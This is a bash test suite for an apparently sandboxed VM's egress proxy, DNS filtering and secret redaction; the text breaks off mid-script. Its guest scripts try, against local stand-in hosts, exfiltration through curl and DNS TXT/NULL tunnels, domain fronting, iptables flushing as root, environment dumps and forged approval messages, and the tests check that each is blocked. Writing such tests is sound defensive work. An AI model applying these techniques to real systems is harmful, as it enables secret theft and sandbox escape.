# Egress VM tests (issue 5), sourced by tests/vm/run-all: real curl, getent
# and python in a real sandbox against test servers of the test's own, with
# the test's own CA.  The servers listen on 203.0.113.10 (TEST-NET-3) added
# to the host's loopback device, and /etc/hosts maps the test names there:
# the proxy refuses names that resolve to loopback or private addresses,
# and a documentation address on lo is a test host that is neither.  Every
# address anything connects to is on this machine (run it where the root is
# throwaway: the helper VM of testbed/run; it edits /etc/hosts and lo).
#
# One sandbox boot runs every guest-side check (boots are slow under
# emulation); the host side then checks what its servers, its DNS logger
# and the audit log saw.  Needs: WORK, ok, not_ok from run-all, root,
# openssl and python3 on the host.
#
#   EGRESS_KOSA8        the kosa8 binary (default build/kosa8)
#   EGRESS_CMD_TIMEOUT  bound of each kosa8 command, seconds (default 600)

eg_k8() { timeout -k 5 "${EGRESS_CMD_TIMEOUT:-600}" "${EGRESS_KOSA8:-build/kosa8}" "$@"; }
# Progress as "# egress: ..." lines (not counted as results): each step is
# slow under emulation, and tests/run stops a helper that is silent for
# VM_IDLE_TIMEOUT.
eg_step() { echo "# egress: $(date +%T) $*"; }

# The test servers: HTTPS on 203.0.113.10:443 and HTTP on :80.  Each
# request is logged (Host, X-Api-Key as received) to $1 and answered with
# "hello from HOST" and the key it got (a server that echoes a secret: the
# proxy must redact it on the way back).
eg_write_server() {
	cat >"$WORK/eg/server.py" <<-'EOF'
	import http.server, os, socketserver, ssl, sys, threading
	log, cert, key, repos = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
	lock = threading.Lock()
	class H(http.server.BaseHTTPRequestHandler):
	    def send_repo_file(self, host):
	        # git's dumb HTTP protocol: plain files of a bare repository
	        # (after git update-server-info); the query string is ignored.
	        rel = os.path.normpath(self.path.split("?")[0].lstrip("/"))
	        path = os.path.join(repos, rel)
	        with lock, open(log, "a") as f:
	            f.write("%s %s git %s\n" % ("https" if self.server.tls else "http", host, rel))
	        if rel.startswith("..") or not os.path.isfile(path):
	            self.send_error(404)
	            return
	        with open(path, "rb") as f:
	            body = f.read()
	        self.send_response(200)
	        self.send_header("Content-Type", "application/octet-stream")
	        self.send_header("Content-Length", str(len(body)))
	        self.end_headers()
	        self.wfile.write(body)
	    def do_GET(self):
	        host = self.headers.get("Host", "")
	        if self.path.startswith("/repo.git/"):
	            self.send_repo_file(host)
	            return
	        k = self.headers.get("X-Api-Key", "-")
	        with lock, open(log, "a") as f:
	            f.write("%s %s key=%s\n" % ("https" if self.server.tls else "http", host, k))
	        body = ("hello from %s\nkey=%s\n" % (host, k)).encode()
	        self.send_response(200)
	        self.send_header("Content-Length", str(len(body)))
	        self.end_headers()
	        self.wfile.write(body)
	    def log_message(self, *a):
	        pass
	class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
	    daemon_threads = True
	    allow_reuse_address = True
	plain = S(("203.0.113.10", 80), H); plain.tls = False
	tls = S(("203.0.113.10", 443), H); tls.tls = True
	ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
	tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
	for s in (plain, tls):
	    threading.Thread(target=s.serve_forever, daemon=True).start()
	print("ready", flush=True)
	threading.Event().wait()
	EOF
	# Logs every DNS datagram that reaches the host's resolver: none may
	# carry a name the sandbox was not allowed.
	cat >"$WORK/eg/dnslog.py" <<-'EOF'
	import socket, sys
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	s.bind(("127.0.0.1", 53))
	print("ready", flush=True)
	while True:
	    d, a = s.recvfrom(4096)
	    with open(sys.argv[1], "ab") as f:
	        f.write(d + b"\n")
	EOF
	# Searches a process's whole address space (/proc/PID/maps, then
	# /proc/PID/mem region by region, overlapping reads so that no match
	# is cut in two) for each needle.  Guest RAM is mapped into the VMM
	# (a memfd after a boot; a checkpoint's or template's memory file,
	# mapped private, after a restore), so one pass over the VMM covers
	# guest RAM and the VMM's own heap and stacks.  Prints "NEEDLE_INDEX guest|vmm COUNT" per
	# needle and place, then "scanned BYTES memfd BYTES unreadable N".
	cat >"$WORK/eg/memscan.py" <<-'EOF'
	import os, sys
	pid, needles = sys.argv[1], [n.encode() for n in sys.argv[2:]]
	step, keep = 8 << 20, max(len(n) for n in needles) - 1
	hits = {(i, w): 0 for i in range(len(needles)) for w in ("guest", "vmm")}
	scanned = memfd = unreadable = 0
	fd = os.open("/proc/%s/mem" % pid, os.O_RDONLY)
	for line in open("/proc/%s/maps" % pid):
	    f = line.split()
	    lo, hi = (int(x, 16) for x in f[0].split("-"))
	    path = f[5] if len(f) > 5 else ""
	    where = "guest" if path.startswith("/memfd:") or path.endswith("/memory") else "vmm"
	    prev, off = b"", lo
	    while off < hi:
	        try:
	            cur = os.pread(fd, min(step, hi - off), off)
	        except (OSError, OverflowError):  # e.g. [vsyscall], past off_t
	            unreadable += 1
	            break
	        if not cur:
	            break
	        buf = prev + cur
	        for i, n in enumerate(needles):
	            # A match lying wholly in prev was counted in the last round.
	            start = 0
	            while True:
	                at = buf.find(n, start)
	                if at < 0:
	                    break
	                if at + len(n) > len(prev):
	                    hits[(i, where)] += 1
	                start = at + 1
	        scanned += len(cur)
	        memfd += len(cur) if where == "guest" else 0
	        prev, off = buf[-keep:] if keep else b"", off + len(cur)
	for (i, w), c in sorted(hits.items()):
	    print(i, w, c)
	print("scanned", scanned, "memfd", memfd, "unreadable", unreadable)
	EOF
}

# A bare repository served by the test server over git's dumb HTTP
# protocol at /repo.git/ (update-server-info writes the files it needs).
eg_make_repo() {
	local d=$WORK/eg
	git init -q "$d/src" && printf 'kosa8-git-ok\n' >"$d/src/README" &&
		git -C "$d/src" add README &&
		git -C "$d/src" -c user.name=kosa8-test -c user.email=test@kosa8.invalid commit -qm init &&
		mkdir -p "$d/repos" && git clone -q --bare "$d/src" "$d/repos/repo.git" &&
		git -C "$d/repos/repo.git" update-server-info
}

eg_make_ca() {
	local d=$WORK/eg
	openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=kosa8 egress test CA" \
		-keyout "$d/ca.key" -out "$d/ca.crt" -addext basicConstraints=critical,CA:true \
		-addext keyUsage=critical,keyCertSign,cRLSign 2>/dev/null &&
		openssl req -newkey rsa:2048 -nodes -subj "/CN=allowed.test" -keyout "$d/srv.key" \
			-out "$d/srv.csr" 2>/dev/null &&
		printf 'subjectAltName=DNS:allowed.test,DNS:other.test,DNS:secret.test,DNS:plain.test\nextendedKeyUsage=serverAuth\n' >"$d/ext" &&
		openssl x509 -req -in "$d/srv.csr" -CA "$d/ca.crt" -CAkey "$d/ca.key" -CAcreateserial \
			-days 2 -extfile "$d/ext" -out "$d/srv.crt" 2>/dev/null
}

# The guest side: one script, one line "eg: NAME=VALUE" per check.
eg_write_guest_script() {
	cat >"$WORK/eg/ws/checks.sh" <<-'EOF'
	#!/bin/bash
	ca=/workspace/ca.crt
	c() { curl -sS --max-time 30 "$@"; }
	say() { echo "eg: $1=$2"; }
	say ifaces "$(ls /sys/class/net | sort | paste -sd, -)"
	say https_allowed "$(c --cacert $ca https://allowed.test/ | head -1)"
	say http_allowed "$(c http://plain.test/ | head -1)"
	getent hosts denied.test >/dev/null 2>&1; say getent_denied_rc $?
	say getent_allowed "$(getent hosts allowed.test | awk '{print $1}')"
	c http://denied.test/ >/dev/null 2>&1; say curl_denied_rc $?
	c http://x7f3a9.exfil.denied.test/ >/dev/null 2>&1; say curl_exfil_rc $?
	c --connect-timeout 10 http://192.0.2.10/ >/dev/null 2>&1; say ip_literal_rc $?
	c --connect-timeout 10 http://198.18.1.200/ >/dev/null 2>&1; say synthetic_unknown_rc $?
	c --cacert $ca --connect-to other.test:443:allowed.test:443 https://other.test/ >/dev/null 2>&1
	say fronting_sni_rc $?
	c -H 'Host: other.test' http://plain.test/ >/dev/null 2>&1; say fronting_host_rc $?
	say udp_outside "$(python3 -c '
	import socket
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
	s.sendto(b"ping", ("192.0.2.10", 9999))
	try:
	    s.recvfrom(100); print("answered")
	except socket.timeout:
	    print("nothing")
	')"
	# DNS asked by hand: rcode/answer count for each question.  A TXT or
	# NULL tunnel under a denied name, random subdomains of an allowed name
	# and of its sibling: refused, and none of them may leave the host.
	python3 -c '
	import random, socket, struct
	ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
	tag = "%08x" % random.getrandbits(32)
	def ask(name, qtype):
	    qid = random.getrandbits(16)
	    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
	    for label in name.split("."):
	        q += bytes([len(label)]) + label.encode()
	    q += b"\0" + struct.pack(">HH", qtype, 1)
	    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
	    s.sendto(q, (ns, 53))
	    try:
	        r = s.recv(512)
	    except socket.timeout:
	        return "timeout"
	    if len(r) < 12 or struct.unpack(">H", r[:2])[0] != qid:
	        return "bad-reply"
	    flags, qd, an = struct.unpack(">HHH", r[2:8])
	    return "%d/%d" % (flags & 15, an)
	for key, name, qtype in (("dns_a_allowed", "allowed.test", 1),
	                         ("dns_txt_allowed", "allowed.test", 16),
	                         ("dns_txt_tunnel", "c2VjcmV0" + tag + ".tunnel.denied.test", 16),
	                         ("dns_null_tunnel", "c2VjcmV0" + tag + ".tunnel.denied.test", 10),
	                         ("dns_sub_of_allowed", tag + ".allowed.test", 1),
	                         ("dns_sub_of_sibling", tag + ".sibling.test", 1)):
	    print("eg: %s=%s" % (key, ask(name, qtype)))
	'
	say env_key "${API_KEY:-unset}"
	say secret_bound "$(c -H "X-Api-Key: $API_KEY" https://secret.test/ | tr '\n' ' ')"
	say secret_other "$(c --cacert $ca -H "X-Api-Key: $API_KEY" https://allowed.test/ | tail -1)"
	# The placeholder kept in guest RAM (page cache) while the host
	# searches the VMM's memory: the search's positive control.
	printf 'k8-ram-copy %s\n' "$API_KEY" >/tmp/k8-placeholder
	# git (dumb HTTP over HTTPS) and Python's urllib as further clients.
	export GIT_TERMINAL_PROMPT=0
	GIT_SSL_CAINFO=$ca timeout 90 git clone -q https://allowed.test/repo.git /tmp/g1 >/dev/null 2>&1
	say git_allowed_rc $?
	say git_allowed_file "$(cat /tmp/g1/README 2>/dev/null)"
	GIT_SSL_CAINFO=$ca timeout 90 git clone -q https://denied.test/repo.git /tmp/g2 >/dev/null 2>&1
	say git_denied_rc $?
	say py_allowed "$(python3 -c '
	import ssl, urllib.request
	ctx = ssl.create_default_context(cafile="/workspace/ca.crt")
	print(urllib.request.urlopen("https://allowed.test/", context=ctx, timeout=30).read().decode().splitlines()[0])
	' 2>&1 | tail -1)"
	say py_denied "$(python3 -c '
	import urllib.error, urllib.request
	try:
	    urllib.request.urlopen("http://denied.test/", timeout=30); print("reached")
	except urllib.error.URLError as e:
	    print(type(e.reason).__name__)
	' 2>&1 | tail -1)"
	EOF
	# Policy `ask`, answered by the host while these wait.  DNS answers an
	# ask name at once; the proxy holds the connection until the answer.
	cat >"$WORK/eg/ws/ask.sh" <<-'EOF'
	#!/bin/bash
	echo "eg: ask_allow=$(curl -sS --max-time 120 http://ask-yes.test/ 2>&1 | head -1)"
	curl -sS --max-time 120 http://ask-no.test/ >/dev/null 2>&1
	echo "eg: ask_deny_rc=$?"
	EOF
	cat >"$WORK/eg/ws/flush.sh" <<-'EOF'
	#!/bin/bash
	# As root: undo the redirect, then try to get out anyway.
	# Every process's environment (the host checks the value is in none).
	for e in /proc/[0-9]*/environ; do tr '\0' '\n' <"$e"; done 2>/dev/null | sed 's/^/eg-env: /'
	iptables -t nat -F && echo "eg: flushed=yes"
	curl -sS --max-time 15 --connect-timeout 8 --cacert /workspace/ca.crt https://allowed.test/ >/dev/null 2>&1
	echo "eg: after_flush_rc=$?"
	python3 -c '
	import socket
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
	s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x01\x00\x01", ("192.0.2.53", 53))
	try:
	    s.recvfrom(512); print("eg: after_flush_dns=answered")
	except socket.timeout:
	    print("eg: after_flush_dns=nothing")
	'
	EOF
	# After a rewind and in a fork: the proxy, the secret and the policy.
	cat >"$WORK/eg/ws/after.sh" <<-'EOF'
	#!/bin/bash
	c() { curl -sS --max-time 30 "$@"; }
	echo "eg: $1_https=$(c --cacert /workspace/ca.crt https://allowed.test/ | head -1)"
	echo "eg: $1_secret=$(c -H "X-Api-Key: $API_KEY" https://secret.test/ | tr '\n' ' ')"
	c http://denied.test/ >/dev/null 2>&1; echo "eg: $1_denied_rc=$?"
	EOF
	chmod +x "$WORK/eg/ws/checks.sh" "$WORK/eg/ws/flush.sh" "$WORK/eg/ws/ask.sh" "$WORK/eg/ws/after.sh"
}

eg_field() { sed -n "s/^eg: $1=//p" "$WORK/eg/out" | tr -d '\r' | head -1; }

# eg_expect NAME WANT: the check's value must equal WANT (or match the
# extended regex WANT when it starts with ~).
eg_bad=
eg_expect() {
	local v
	v=$(eg_field "$1")
	if [ "${2:0:1}" = "~" ]; then
		[[ $v =~ ${2:1} ]] && return
	elif [ "$v" = "$2" ]; then
		return
	fi
	eg_bad="$eg_bad $1='$v'(want $2)"
}

# eg_answer HOST:PORT ANSWER [SANDBOX [DELAY]]: waits (90 tries, about a
# second apart) until the host sees HOST:PORT in `kosa8 approvals`, waits
# DELAY more seconds, then answers it; records the result as the check
# answer_ANSWER.
eg_answer() {
	local id= line sb=${3:-egress1}
	for _ in $(seq 1 90); do
		line=$(eg_k8 approvals "$sb" 2>/dev/null | awk -v h="$1" '$4 == h {print; exit}')
		id=$(echo "$line" | awk '{print $2}')
		[ -n "$id" ] && break
		sleep 1
	done
	[ -n "$id" ] || { echo "eg: answer_$2=not-seen" >>"$WORK/eg/out"; return; }
	sleep "${4:-0}"
	echo "$line" >>"$WORK/eg/approvals.out"
	eg_k8 approvals "$2" "$sb" "$id" >>"$WORK/eg/approvals.out" 2>&1
	echo "eg: answer_$2=rc$?" >>"$WORK/eg/out"
}

# The guest's requests to `ask` names wait while the host answers: allow
# for the first, deny for the second.
eg_ask_flow() {
	local guest
	eg_k8 exec egress1 -- /workspace/ask.sh >"$WORK/eg/ask.out" 2>&1 </dev/null &
	guest=$!
	eg_answer ask-yes.test:80 allow
	eg_answer ask-no.test:80 deny
	wait "$guest"
	cat "$WORK/eg/ask.out" >>"$WORK/eg/out"
}

eg_value=s3cr3t-value-42

# While the sandbox runs, after the guest used the secret: the VMM's whole
# memory (guest RAM included) and the run directory.  The placeholder is
# searched for alongside the value: it must be found in guest RAM, or the
# search proves nothing.
eg_scan_running() {
	local vmm vsock placeholder
	placeholder=$(eg_field env_key)
	# The sandbox's VMM: `kosa8-vmm ... --jail` with its disk in the
	# sandbox's state folder; its --vsock socket lies in the run directory.
	vmm=$(pgrep -f -- 'kosa8-vmm .*--jail.*/sandboxes/egress1/' | head -1)
	vsock=$(tr '\0' '\n' <"/proc/${vmm:-0}/cmdline" 2>/dev/null | sed -n '/^--vsock$/{n;p;q}')
	echo "eg: vmm_found=${vmm:+yes}" >>"$WORK/eg/out"
	[ -n "$vmm" ] && [ -n "$placeholder" ] &&
		timeout -k 5 600 python3 "$WORK/eg/memscan.py" "$vmm" "$eg_value" "$placeholder" \
			>"$WORK/eg/memscan" 2>&1
	echo "eg: rundir_found=$([ -d "$(dirname "$(dirname "${vsock:-/nonexistent/x/y}")")" ] && echo yes)" >>"$WORK/eg/out"
	echo "eg: rundir_files_with_value=$(grep -rlsFa -- "$eg_value" "$(dirname "$(dirname "${vsock:-/nonexistent/x/y}")")" | wc -l)" \
		>>"$WORK/eg/out"
}

# The running sandbox is checkpointed and rewound to that checkpoint, then
# forked from it: in both, HTTPS to an allowed name, the secret put in for
# its host and a denied name behave as before (the proxy, DNS and secrets
# of a restored VMM; a fork's own supervisor).  Failures are recorded as
# checks the caller expects.
eg_after_restore() {
	local id EGRESS_CMD_TIMEOUT=180 # each step takes under 30 s in the helper VM
	id=$(eg_k8 checkpoint egress1 -m egress 2>>"$WORK/eg/after.err") ||
		{ echo "eg: after=checkpoint failed" >>"$WORK/eg/out"; return; }
	eg_k8 rewind egress1 "$id" >>"$WORK/eg/after.err" 2>&1 ||
		{ echo "eg: after=rewind failed" >>"$WORK/eg/out"; return; }
	eg_k8 exec egress1 -- /workspace/after.sh rewind >>"$WORK/eg/out" 2>&1 </dev/null
	KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 fork egress1 "$id" --name egfork >>"$WORK/eg/after.err" 2>&1 ||
		{ echo "eg: after=fork failed" >>"$WORK/eg/out"; return; }
	eg_k8 exec egfork -- /workspace/after.sh fork >>"$WORK/eg/out" 2>&1 </dev/null
	eg_k8 rm -f egfork >>"$WORK/eg/after.err" 2>&1
	echo "eg: after=done" >>"$WORK/eg/out"
}

# After the stop: every file under kosa8's state folder (each sandbox's
# disk delta, console and supervisor logs, configuration, the audit log)
# must lack the value; the placeholder file there shows the search sees
# the folder's contents.
eg_scan_state() {
	local st=${KOSA8_STATE_DIR:-${XDG_STATE_HOME:-$HOME/.local/state}/kosa8}
	echo "eg: state_files_with_value=$(grep -rlsFa -- "$eg_value" "$st" | wc -l)" >>"$WORK/eg/out"
	echo "eg: state_files_with_placeholder=$(grep -rlsFa -- "$(eg_field env_key)" "$st" | wc -l)" >>"$WORK/eg/out"
	echo "eg: audit_log_with_value=$(grep -csFa -- "$eg_value" "$st/audit.log")" >>"$WORK/eg/out"
	echo "eg: audit_log_bytes=$(stat -c %s "$st/audit.log" 2>/dev/null)" >>"$WORK/eg/out"
}

# The memory search's result: the value nowhere, the placeholder in guest
# RAM, and all of guest RAM (the default 1 GiB) read.
eg_check_memscan() {
	local m=$WORK/eg/memscan
	grep -qx "0 guest 0" "$m" && grep -qx "0 vmm 0" "$m" || eg_bad="$eg_bad secret-value-in-vmm-memory"
	grep -qE "^1 guest [1-9]" "$m" || eg_bad="$eg_bad memscan-control-placeholder-not-found-in-guest-ram"
	awk '$1 == "scanned" && $4 >= 1073741824 {f = 1} END {exit !f}' "$m" ||
		eg_bad="$eg_bad memscan-did-not-read-all-guest-ram"
}

test_egress() {
	local name=egress-curl-dns-fronting-secrets-audit srv dns pids=() placeholder
	rm -rf "$WORK/eg" && mkdir -p "$WORK/eg/ws"
	command -v openssl >/dev/null && command -v python3 >/dev/null ||
		{ not_ok "$name" "openssl and python3 are needed on the host"; return; }
	eg_make_ca || { not_ok "$name" "could not make the test CA"; return; }
	eg_make_repo >"$WORK/eg/out" 2>&1 || { not_ok "$name" "could not make the test repository: $(tail -1 "$WORK/eg/out")"; return; }
	printf 'ask ask-yes.test ask-no.test\n' >"$WORK/eg/ask.policy"
	cp "$WORK/eg/ca.crt" "$WORK/eg/ws/ca.crt"
	eg_write_server
	eg_write_guest_script
	# Test names on a test address of lo; the host's resolver is our logger.
	ip addr add 203.0.113.10/32 dev lo 2>/dev/null
	printf '203.0.113.10 allowed.test other.test secret.test plain.test ask-yes.test ask-no.test\n' >>/etc/hosts
	cp /etc/resolv.conf "$WORK/eg/resolv.conf.saved" 2>/dev/null
	printf 'nameserver 127.0.0.1\n' >/etc/resolv.conf
	python3 "$WORK/eg/server.py" "$WORK/eg/requests.log" "$WORK/eg/srv.crt" "$WORK/eg/srv.key" \
		"$WORK/eg/repos" >"$WORK/eg/server.out" 2>&1 &
	pids+=($!)
	python3 "$WORK/eg/dnslog.py" "$WORK/eg/dns.log" >"$WORK/eg/dnslog.out" 2>&1 &
	pids+=($!)
	for _ in $(seq 1 50); do
		grep -q ready "$WORK/eg/server.out" && grep -q ready "$WORK/eg/dnslog.out" && break
		sleep 0.2
	done
	eg_step "servers up, adding the secret"
	# A secret bound to secret.test, its value never in the guest (one an
	# earlier attempt added is removed first).
	eg_k8 secret rm API_KEY >/dev/null 2>&1
	printf 's3cr3t-value-42' | eg_k8 secret add API_KEY --host secret.test >"$WORK/eg/out" 2>&1 ||
		{ not_ok "$name" "kosa8 secret add failed: $(head -1 "$WORK/eg/out")"; kill "${pids[@]}"; return; }
	eg_step "creating and starting the sandbox"
	KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 create --name egress1 --workspace "$WORK/eg/ws" \
		--allow allowed.test --allow plain.test --allow secret.test --secret API_KEY \
		--policy "$WORK/eg/ask.policy" \
		>"$WORK/eg/out" 2>&1 &&
		KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 start egress1 >>"$WORK/eg/out" 2>&1 ||
		{
			{
				echo "--- console"; eg_k8 logs egress1 | tail -25
				echo "--- supervisor.log"
				tail -15 "${KOSA8_STATE_DIR:-${XDG_STATE_HOME:-$HOME/.local/state}/kosa8}/sandboxes/egress1/supervisor.log"
			} >"$WORK/out" 2>&1
			not_ok "$name" "create/start failed: $(tail -1 "$WORK/eg/out")"
			eg_k8 rm -f egress1 >/dev/null 2>&1; kill "${pids[@]}"; return
		}
	eg_step "sandbox started; guest checks"
	eg_k8 exec egress1 -- /workspace/checks.sh >"$WORK/eg/out" 2>&1 </dev/null
	eg_step "guest checks done; approvals"
	eg_ask_flow
	eg_step "approvals done; searching the VMM's memory and the run files"
	eg_scan_running
	eg_step "checkpoint, rewind and fork: the proxy after a restore"
	eg_after_restore
	eg_step "guest checks done; flushing the guest's rules"
	eg_k8 exec -u root egress1 -- /workspace/flush.sh >>"$WORK/eg/out" 2>&1 </dev/null
	eg_step "stopping"
	eg_k8 stop egress1 >/dev/null 2>&1
	eg_k8 audit show --sandbox egress1 >"$WORK/eg/audit" 2>&1
	cp "${KOSA8_STATE_DIR:-${XDG_STATE_HOME:-$HOME/.local/state}/kosa8}"/sandboxes/egress1/*.log "$WORK/eg/" 2>/dev/null
	eg_scan_state
	eg_k8 rm -f egress1 >/dev/null 2>&1
	kill "${pids[@]}" 2>/dev/null
	wait "${pids[@]}" 2>/dev/null
	cp "$WORK/eg/resolv.conf.saved" /etc/resolv.conf 2>/dev/null
	ip addr del 203.0.113.10/32 dev lo 2>/dev/null

	eg_bad=
	eg_expect ifaces "kosa8-void,lo"
	eg_expect https_allowed "hello from allowed.test"
	eg_expect http_allowed "hello from plain.test"
	eg_expect getent_denied_rc 2
	eg_expect getent_allowed "~^198\.1[89]\."
	eg_expect curl_denied_rc 6
	eg_expect curl_exfil_rc 6
	eg_expect ip_literal_rc "~^(7|52|56|28)$"
	eg_expect synthetic_unknown_rc "~^(7|52|56|28)$"
	eg_expect fronting_sni_rc "~^(35|52|56)$"
	eg_expect fronting_host_rc "~^(52|56)$"
	eg_expect udp_outside nothing
	eg_expect dns_a_allowed 0/1
	eg_expect dns_txt_allowed 0/0
	eg_expect dns_txt_tunnel 5/0
	eg_expect dns_null_tunnel 5/0
	eg_expect dns_sub_of_allowed 5/0
	eg_expect dns_sub_of_sibling 5/0
	eg_expect env_key "~^k8s-placeholder-API_KEY-"
	placeholder=$(eg_field env_key)
	# The server echoed the real value; the guest must see the placeholder.
	eg_expect secret_bound "hello from secret.test key=$placeholder "
	eg_expect secret_other "key=$placeholder"
	eg_expect flushed yes
	eg_expect after_flush_rc "~^(7|28)$"
	eg_expect after_flush_dns nothing
	eg_expect git_allowed_rc 0
	eg_expect git_allowed_file kosa8-git-ok
	eg_expect git_denied_rc 128
	eg_expect py_allowed "hello from allowed.test"
	eg_expect py_denied gaierror
	eg_expect answer_allow rc0
	eg_expect answer_deny rc0
	eg_expect ask_allow "hello from ask-yes.test"
	eg_expect ask_deny_rc "~^(52|56)$"
	eg_expect vmm_found yes
	eg_expect rundir_found yes
	eg_expect rundir_files_with_value 0
	eg_expect state_files_with_value 0
	eg_expect state_files_with_placeholder "~^[1-9]"
	eg_expect audit_log_with_value 0
	eg_expect audit_log_bytes "~^[1-9]"
	eg_check_memscan
	eg_expect after done
	for p in rewind fork; do
		eg_expect ${p}_https "hello from allowed.test"
		eg_expect ${p}_secret "hello from secret.test key=$placeholder "
		eg_expect ${p}_denied_rc 6
	done
	[ "$(grep -c "^https secret.test key=s3cr3t-value-42$" "$WORK/eg/requests.log")" -ge 3 ] ||
		eg_bad="$eg_bad secret-not-put-in-after-rewind-and-in-fork"
	grep -q "^eg-env: API_KEY=$placeholder$" "$WORK/eg/out" || eg_bad="$eg_bad env-dump-without-placeholder"
	grep -q "^https allowed.test git repo.git/info/refs$" "$WORK/eg/requests.log" ||
		eg_bad="$eg_bad git-clone-did-not-reach-the-server"
	grep -q "^https allowed.test git repo.git/objects/" "$WORK/eg/requests.log" ||
		eg_bad="$eg_bad git-fetched-no-objects"
	grep -q "^http ask-yes.test " "$WORK/eg/requests.log" || eg_bad="$eg_bad allowed-ask-did-not-reach-the-server"
	grep -q "ask-no.test" "$WORK/eg/requests.log" && eg_bad="$eg_bad denied-ask-reached-a-server"
	grep "approval.answer" "$WORK/eg/audit" | grep "ask-yes.test" | grep -qE '"answer": ?"allow once"' ||
		eg_bad="$eg_bad no-audited-allow-answer"
	grep "approval.answer" "$WORK/eg/audit" | grep "ask-no.test" | grep -qE '"answer": ?"deny"' ||
		eg_bad="$eg_bad no-audited-deny-answer"
	grep -q "^https secret.test key=s3cr3t-value-42$" "$WORK/eg/requests.log" ||
		eg_bad="$eg_bad upstream-did-not-get-the-secret"
	grep -q "^https allowed.test key=$placeholder$" "$WORK/eg/requests.log" ||
		eg_bad="$eg_bad placeholder-to-other-host-changed"
	grep -q "other.test" "$WORK/eg/requests.log" && eg_bad="$eg_bad fronted-request-reached-a-server"
	grep -q "s3cr3t-value-42" "$WORK/eg/out" && eg_bad="$eg_bad secret-value-seen-in-guest"
	grep -qa "denied" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad denied-name-query-left-the-host"
	grep -qa "exfil" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad exfil-query-left-the-host"
	grep -qaE "tunnel|sibling" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad dns-tunnel-query-left-the-host"
	for t in TXT NULL; do
		grep "net.dns" "$WORK/eg/audit" | grep "tunnel.denied.test" | grep -qE "\"qtype\": ?\"$t\"" ||
			eg_bad="$eg_bad no-audited-$t-tunnel-query"
	done
	for t in net.dns net.connect secret.use; do
		grep -q "$t" "$WORK/eg/audit" || eg_bad="$eg_bad no-$t-audit-record"
	done
	grep -q "s3cr3t-value-42" "$WORK/eg/audit" && eg_bad="$eg_bad secret-value-in-audit-log"
	if [ -n "$eg_bad" ]; then
		cp "$WORK/eg/out" "$WORK/out"
		{
			echo "--- requests.log"; cat "$WORK/eg/requests.log"
			echo "--- audit (net)"; grep -E "net\.|secret" "$WORK/eg/audit" | tail -20
			echo "--- supervisor.log"; tail -15 "$WORK/eg/supervisor.log"
			echo "--- memscan"; cat "$WORK/eg/memscan"
			echo "--- approvals"; cat "$WORK/eg/approvals.out"
			echo "--- checkpoint, rewind, fork"; tail -5 "$WORK/eg/after.err"
		} >>"$WORK/out" 2>/dev/null
		not_ok "$name" "$eg_bad"
		return
	fi
	ok "$name"
}

# A policy file with an error stops the sandbox at create (and at start, if
# the user defaults break later), with the file, line and reason.
test_egress_bad_policy() {
	local name=egress-bad-policy-refused-with-line
	mkdir -p "$WORK/eg"
	printf 'allow good.test\nallow *.\n' >"$WORK/eg/bad.policy"
	eg_k8 create --name egbad --policy "$WORK/eg/bad.policy" >"$WORK/out" 2>&1
	rc=$?
	if [ "$rc" -eq 0 ] || ! grep -q "bad.policy line 2" "$WORK/out"; then
		not_ok "$name" "rc=$rc, want a refusal naming bad.policy line 2"
		eg_k8 rm -f egbad >/dev/null 2>&1
		return
	fi
	eg_k8 create --name egbad --allow 'not a host' >"$WORK/out" 2>&1 && {
		not_ok "$name" "--allow 'not a host' was accepted"; eg_k8 rm -f egbad >/dev/null 2>&1; return; }
	ok "$name"
}

# The approval answers test_egress does not give, in a sandbox of their own
# whose requests time out after 30 s (KOSA8_APPROVAL_TIMEOUT):
#   always   the first curl to always.test waits while the host holds its
#            answer back for 16 s (longer than a resolver waits: the
#            connection, not DNS, is held), then "allow always"; the
#            rule is in the sandbox's policy file and `kosa8 policy
#            check`; a second curl over 60 s later (past the minute an
#            "allow once" holds, so only the rule can let it through)
#            passes with no new request;
#   timeout  nobody answers late.test: a deny by "timeout" after 30 s, the
#            guest's curl fails with no reply, the server sees nothing;
#   guest    meanwhile guest root sends approvals.answer and approvals.list
#            requests to host vsock ports (the egress ports and a few high
#            ones first, then 1-1500, for at most 20 s): only the egress ports
#            take a connection, none answers, and the request still ends
#            by timeout.
eg_write_approval_scripts() {
	# always.sh first|second: one curl, its first line and its time.
	cat >"$WORK/eg/ws/always.sh" <<-'EOF'
	#!/bin/bash
	t=$(date +%s%N)
	echo "eg: always_$1=$(curl -sS --max-time 120 http://always.test/ 2>&1 | head -1)"
	echo "eg: always_$1_ms=$(( ($(date +%s%N) - t) / 1000000 ))"
	EOF
	cat >"$WORK/eg/ws/late.sh" <<-'EOF'
	#!/bin/bash
	t=$(date +%s%N)
	( curl -sS --max-time 90 http://late.test/ >/dev/null 2>&1; echo $? >/tmp/late.rc; date +%s%N >/tmp/late.end ) &
	sleep 3
	python3 /workspace/selfanswer.py "$t"
	wait
	echo "eg: late_rc=$(cat /tmp/late.rc)"
	echo "eg: late_ms=$(( ($(cat /tmp/late.end) - t) / 1000000 ))"
	EOF
	cat >"$WORK/eg/ws/selfanswer.py" <<-'EOF'
	import json, socket, sys, time
	t0 = int(sys.argv[1]) / 1e9
	msgs = b"".join(json.dumps({"v": 1, "op": "approvals.answer", "id": i, "answer": "always"}).encode() + b"\n"
	                for i in range(1, 9)) + b'{"v":1,"op":"approvals.list"}\n'
